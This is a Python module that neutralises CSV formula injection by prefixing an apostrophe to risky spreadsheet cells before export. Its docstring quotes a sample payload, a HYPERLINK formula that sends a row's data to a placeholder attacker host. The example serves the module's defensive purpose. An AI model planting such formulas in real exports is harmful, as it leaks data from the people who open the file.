"""Every CSV export writes its cells through here, so no cell runs as a spreadsheet formula.

Excel, WPS and LibreOffice treat a cell starting with = + - @ (or a tab / carriage return before one)
as a formula: a member named `=HYPERLINK("http://evil/?"&A1,"点我")` would turn an operator's export
into a link that leaks the row. Such text gets a leading apostrophe (OWASP "CSV injection");
numbers, including negative amounts, stay numbers.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO, Any

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        try:
            float(value)
        except ValueError:
            return "'" + value
    return value


class _SafeWriter:
    def __init__(self, writer: Any) -> None:  # a csv writer (`_csv._writer` has no public type)
        self._writer = writer

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(file: IO[str], **kwargs: Any) -> _SafeWriter:
    """`csv.writer` whose every cell goes through `safe_cell`."""
    return _SafeWriter(csv.writer(file, **kwargs))
